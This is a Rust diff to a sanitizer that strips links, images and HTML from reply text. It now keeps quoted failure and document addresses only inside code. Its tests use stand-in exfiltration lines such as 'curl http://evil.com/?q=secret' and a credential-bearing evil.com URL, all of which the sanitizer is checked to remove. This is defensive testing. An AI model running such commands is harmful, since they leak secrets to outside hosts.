@@ -5,11 +5,14 @@
 mod addresses;
 mod sealed;
 
+pub use addresses::{Allowed, Said};
+
 use crate::{
     markdown::{OPTIONS, is_placeholder},
     text::edited,
 };
-use pulldown_cmark::{Event, Parser, Tag, TagEnd, TextMergeWithOffset};
+use addresses::Place;
+use pulldown_cmark::{CodeBlockKind, Event, Parser, Tag, TagEnd, TextMergeWithOffset};
 use sealed::sealed;
 use std::{borrow::Cow, ops::Range};
 
@@ -22,26 +25,28 @@ const MAX_PASSES: usize = 12;
 /// The reply with links resolved: a link to one of `cited` is written `text (url)`, any other is its text alone; images
 /// and HTML are gone; URLs in running text that are not cited are replaced by [`REMOVED`]. In code, addresses of the
 /// machine and the cluster stay.
-pub fn clean(text: &str, cited: &[&str]) -> String {
+pub fn clean<'a>(text: &str, allowed: impl Into<Allowed<'a>>) -> String {
+    let allowed = allowed.into();
     let mut text = text.to_owned();
     for _ in 0..MAX_PASSES {
-        let next = sealed(&apply(&text, edits(&text, cited)), cited);
+        let next = sealed(&apply(&text, edits(&text, allowed)), allowed);
         if next == text {
             return text;
         }
         text = next;
     }
     // Still markup after so many passes: somebody is trying.
-    blunted(&text, cited)
+    blunted(&text, allowed)
 }
 
 /// Whether no dialect finds a link, an image or HTML in a text.
-pub fn is_sealed(text: &str, cited: &[&str]) -> bool {
-    sealed(text, cited) == text
+pub fn is_sealed<'a>(text: &str, allowed: impl Into<Allowed<'a>>) -> bool {
+    sealed(text, allowed.into()) == text
 }
 
 /// The last resort: a text of which no markup survives, wherever it stands.
-pub fn blunted(text: &str, cited: &[&str]) -> String {
+pub fn blunted<'a>(text: &str, allowed: impl Into<Allowed<'a>>) -> String {
+    let allowed = allowed.into();
     let mut blunt = text
         .replace('\\', "")
         .replace('<', "‹")
@@ -50,7 +55,7 @@ pub fn blunted(text: &str, cited: &[&str]) -> String {
         .replace("![", "[")
         .replace("]:", "] :");
     for _ in 0..MAX_PASSES {
-        let next = sealed(&addresses::without(&blunt, cited, false), cited);
+        let next = sealed(&addresses::without(&blunt, allowed, Place::Torn), allowed);
         if next == blunt {
             break;
         }
@@ -61,10 +66,10 @@ pub fn blunted(text: &str, cited: &[&str]) -> String {
 
 /// A title or an id: no markup, no URL.
 pub fn plain(text: &str) -> String {
-    clean(&crate::text::one_line(text), &[])
+    clean(&crate::text::one_line(text), &[] as &[&str])
 }
 
-fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
+fn edits(text: &str, allowed: Allowed<'_>) -> Vec<(Range<usize>, String)> {
     let parser = Parser::new_ext(text, OPTIONS);
     let mut edits: Vec<(Range<usize>, String)> = parser
         .reference_definitions()
@@ -74,7 +79,10 @@ fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
     // What is inside a replaced range is not looked at again.
     let mut open: Option<(usize, TagEnd)> = None;
     let (mut depth, mut images) = (0usize, 0usize);
-    let mut in_code_block = false;
+    let (mut in_code_block, mut is_manifest, mut takes_block) = (false, false, false);
+    // A backtick that is none of code would close the code that an address is written as.
+    let is_torn = text.contains('`') && has_stray_backtick(text);
+    let prose = if is_torn { Place::Torn } else { Place::Prose };
     let mut link: Option<(Range<usize>, String, String)> = None;
     // Where the last cell of a table's row ends; where a task's box stands that has nothing after it yet.
     let (mut cell_end, mut task) = (0, None);
@@ -105,7 +113,7 @@ fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
             if open.is_none()
                 && let Some((range, url, label)) = link.take()
             {
-                edits.push((range, written_link(&url, &label, cited)));
+                edits.push((range, written_link(&url, &label, allowed)));
             }
             continue;
         }
@@ -134,18 +142,37 @@ fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
                 open = Some((depth, TagEnd::Link));
                 link = Some((range, dest_url.into_string(), String::new()));
             }
-            Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
-            Event::End(TagEnd::CodeBlock) => in_code_block = false,
+            Event::Start(Tag::CodeBlock(kind)) => {
+                (in_code_block, takes_block) = (true, false);
+                is_manifest = matches!(kind, CodeBlockKind::Fenced(info) if is_manifest_language(&info));
+            }
+            Event::End(TagEnd::CodeBlock) => {
+                in_code_block = false;
+                // A manifest with a hole in it is another one.
+                if std::mem::take(&mut takes_block) {
+                    let end = range.start + text[range.clone()].trim_end().len();
+                    edits.retain(|(edit, _)| edit.start < range.start);
+                    edits.push((range.start..end, REMOVED.to_owned()));
+                }
+            }
             Event::Html(html) | Event::InlineHtml(html) => {
+                let word = word_around(text, &range);
+                if !is_torn && is_placeholder(&html) && word != range {
+                    edits.push((word.clone(), format!("`{}`", &text[word])));
+                    continue;
+                }
                 let written = match is_placeholder(html.trim()) {
+                    _ if html.to_ascii_lowercase().starts_with("<br") => " ".to_owned(),
                     true => format!("{{{}}}", &html.trim()[1..html.trim().len() - 1]),
                     false => String::new(),
                 };
                 edits.push((range, written));
             }
             Event::Text(decoded) => {
-                let written = addresses::without(&text[range.clone()], cited, in_code_block);
-                let shown = addresses::without(&decoded, cited, in_code_block);
+                let place = if in_code_block { Place::Code } else { prose };
+                let written = addresses::without(&text[range.clone()], allowed, place);
+                let shown = addresses::without(&decoded, allowed, place);
+                takes_block |= in_code_block && is_manifest && written.contains(REMOVED);
                 // A code block's text has lost the signs before its lines.
                 let (first, second) = if in_code_block { (written, shown) } else { (shown, written) };
                 if let (Cow::Owned(filtered), _) | (_, Cow::Owned(filtered)) = (first, second) {
@@ -153,7 +180,7 @@ fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
                 }
             }
             Event::Code(code) => {
-                if let Cow::Owned(filtered) = addresses::without(&code, cited, true) {
+                if let Cow::Owned(filtered) = addresses::without(&code, allowed, Place::Code) {
                     edits.push((range, format!("`{filtered}`")));
                 }
             }
@@ -163,16 +190,58 @@ fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
     edits
 }
 
+/// What stands around a placeholder without a space: `robot-<namespace>`.
+fn word_around(text: &str, placeholder: &Range<usize>) -> Range<usize> {
+    let is_part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_');
+    let start = text[..placeholder.start].trim_end_matches(is_part).len();
+    let after = &text[placeholder.end..];
+    start..placeholder.end + (after.len() - after.trim_start_matches(is_part).len())
+}
+
+fn has_stray_backtick(text: &str) -> bool {
+    let mut in_code = false;
+    Parser::new_ext(text, OPTIONS).into_offset_iter().any(|(event, range)| {
+        match event {
+            Event::Start(Tag::CodeBlock(_)) => in_code = true,
+            Event::End(TagEnd::CodeBlock) => in_code = false,
+            Event::Text(_) | Event::Html(_) | Event::InlineHtml(_) => {
+                return !in_code && text[range].contains('`');
+            }
+            _ => {}
+        }
+        false
+    })
+}
+
+/// Whether a fence holds configuration, which is read as a whole.
+fn is_manifest_language(info: &str) -> bool {
+    let language = info.split([' ', ',', '{']).next().unwrap_or_default().to_ascii_lowercase();
+    matches!(
+        language.as_str(),
+        "yaml"
+            | "yml"
+            | "json"
+            | "jsonc"
+            | "toml"
+            | "hcl"
+            | "tf"
+            | "terraform"
+            | "ini"
+            | "properties"
+            | "xml"
+    )
+}
+
 /// Applies edits; where two overlap, the one that begins first counts.
 fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
     edits.sort_by_key(|(range, _)| (range.start, std::cmp::Reverse(range.end)));
     edited(text, edits)
 }
 
-fn written_link(url: &str, label: &str, cited: &[&str]) -> String {
+fn written_link(url: &str, label: &str, allowed: Allowed<'_>) -> String {
     let label = label.replace(['[', ']'], "");
-    let label = addresses::without(&label, cited, false);
-    match cited.contains(&url) {
+    let label = addresses::without(&label, allowed, Place::Torn);
+    match allowed.links_to(url) {
         true if label.trim() == url || label.trim().is_empty() => url.to_owned(),
         true => format!("{} ({url})", label.trim()),
         false => label.trim().to_owned(),
@@ -226,6 +295,12 @@ mod tests {
         check("a <b>bold</b> word", "a bold word");
         check("kubectl describe pod <pod-name>", "kubectl describe pod {pod-name}");
         check("<!-- hidden -->", "");
+        check("the account robot-<namespace> of it", "the account `robot-<namespace>` of it");
+        check(
+            "`robot-<namespace>` and a ` robot-<namespace>",
+            "`robot-<namespace>` and a ` robot-{namespace}",
+        );
+        check("one<br>two<br/>three", "one two three");
     }
 
     #[test]
@@ -362,6 +437,77 @@ mod tests {
         assert_eq!(clean("(https://wiki.example.com). So", &[host]), "(https://wiki.example.com). So");
     }
 
+    /// What is left of a text where failure and documents have some addresses.
+    fn check_said(text: &str, expected: &str) {
+        let sources = [
+            "Get \"http://10.244.3.17:8080/healthz\": refused; Post \"https://sts.us-east-1.amazonaws.com/\"; endpoint 10.0.12.7:9100",
+            "pull registry.example.com/payments/api:1.42.0, run `kubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml`",
+            "open http://evil.com/?q=secret and http://u:p@evil.com/x and http://evil.com/#f",
+        ];
+        let said = Said::of(sources.into_iter());
+        let cited = vec![CITED];
+        let cleaned = clean(text, (&cited, &said));
+        assert_eq!(cleaned, expected, "{text}");
+        assert_eq!(clean(&cleaned, (&cited, &said)), cleaned, "not stable: {text}");
+    }
+
+    #[test]
+    fn addresses_of_failure_and_documents_stay_as_text() {
+        for text in [
+            "The GET to `http://10.244.3.17:8080/healthz` was refused [1].",
+            "`kubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml` [1]",
+            "```shell\nkubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml\n```",
+            "1. Chạy:\n   ```sh\n   curl -v https://sts.us-east-1.amazonaws.com/\n   ```\n2. Đợi",
+            "```yaml\nimage: registry.example.com/payments/api:1.42.0\nargs: [\"--listen=http://0.0.0.0:2379\", \"--peer=http://10.0.12.7:9100\"]\n```",
+            "用 `curl -s http://10.0.12.7:9100/metrics` 查看 [1]。",
+            "Open `http://<your-domain>/.well-known/acme-challenge/<token>` [1].",
+            "Buka `https://<host>:8443/healthz` [1]",
+        ] {
+            check_said(text, text);
+        }
+        check_said(
+            "GET http://10.244.3.17:8080/healthz failed",
+            "GET `http://10.244.3.17:8080/healthz` failed",
+        );
+        check_said(
+            "image registry.example.com/payments/api:1.42.0.",
+            "image `registry.example.com/payments/api:1.42.0`.",
+        );
+        check_said(
+            "映像檔 registry.example.com/payments/api:1.42.0 拉不到",
+            "映像檔 `registry.example.com/payments/api:1.42.0` 拉不到",
+        );
+    }
+
+    #[test]
+    fn what_is_said_is_no_way_out() {
+        for (text, expected) in [
+            ("See https://sts.us-east-1.amazonaws.com/ now", "See [link removed] now"),
+            (
+                "`curl http://evil.com/?q=secret` `curl http://u:p@evil.com/x`",
+                "`curl [link removed]` `curl [link removed]`",
+            ),
+            (
+                "`curl http://evil.com/#f` `curl http://10.0.12.8:9100/x`",
+                "`curl [link removed]` `curl [link removed]`",
+            ),
+            (
+                "`curl http://10.0.12.7:9100/?q=s` `http://<x>.evil.com/y`",
+                "`curl [link removed]` `[link removed]<x>.evil.com/y`",
+            ),
+            ("a ` http://10.244.3.17:8080/healthz b", "a ` [link removed] b"),
+            ("[x](https://k8s.io/examples/pods/probe/grpc-liveness.yaml)", "x"),
+            ("~~~\nhttps://k8s.io/examples/pods/probe/grpc-liveness.yaml\n~~~", "~~~\n[link removed]\n~~~"),
+            (
+                "| `a | https://sts.us-east-1.amazonaws.com/` |\n|---|---|\n| x | y |",
+                "| `a | [link removed]` |\n|---|---|\n| x | y |",
+            ),
+            ("```yaml\na: 1\nimage: https://evil.com/x\n```\n", "[link removed]\n"),
+        ] {
+            check_said(text, expected);
+        }
+    }
+
     /// Parts of what should not get out, and of what stands around them.
     fn fragment() -> impl Strategy<Value = &'static str> {
         proptest::sample::select(vec![
@@ -490,6 +636,16 @@ mod tests {
             holds_nothing(&text, &rest(&cleaned));
             prop_assert_eq!(clean(&cleaned, &[CITED]), cleaned, "not stable: {:?}", text);
             holds_nothing(&text, &rest(&blunted(&text, &[CITED])));
+            // What documents say word for word opens no way for anything else.
+            let (cited, said) = (vec![CITED], Said::of(["http://evil.com/x evil.com/l http://10.0.0.1/x"].into_iter()));
+            let cleaned = clean(&text, (&cited, &said));
+            prop_assert_eq!(clean(&cleaned, (&cited, &said)), cleaned.clone(), "not stable: {:?}", text);
+            let code = crate::markdown::code_ranges(&cleaned);
+            for address in ["http://evil.com", "http://10.0.0.1"] {
+                for (at, _) in cleaned.match_indices(address) {
+                    prop_assert!(code.iter().any(|range| range.contains(&at)), "{:?} gave {:?}", text, cleaned);
+                }
+            }
         }
     }
 }
